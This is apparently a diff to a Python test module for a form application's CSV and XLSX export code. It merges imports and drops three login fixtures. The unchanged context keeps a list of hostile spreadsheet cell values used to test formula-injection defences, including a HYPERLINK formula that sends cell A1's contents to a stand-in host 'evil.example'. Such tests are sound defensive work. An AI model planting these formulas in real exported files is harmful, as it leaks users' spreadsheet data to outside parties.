@@ -12,8 +12,7 @@ from sqlalchemy import select
 
 from form_worker.exports import SENSITIVE_HEADER, csv_cell, local_time, write_csv, write_xlsx
 from form_worker.models import Application, AuditEntry
-from tests.form_worker.conftest import OPEN_POSITION, csrf_token, drain
-from tests.form_worker.test_staff import StaffClient, logged_in, make_accounts
+from tests.form_worker.conftest import OPEN_POSITION, StaffClient, csrf_token, drain
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
 
@@ -60,21 +59,6 @@ def test_xlsx_drops_characters_excel_refuses() -> None:
 
 
 # ---------------------------------------------------------------- the views
-
-
-@pytest.fixture
-def accounts(session):
-    return make_accounts(session)
-
-
-@pytest.fixture
-def reviewer(client, accounts) -> StaffClient:
-    return logged_in(client, "reviewer")
-
-
-@pytest.fixture
-def admin(client, accounts) -> StaffClient:
-    return logged_in(client, "admin")
 
 
 @pytest.fixture
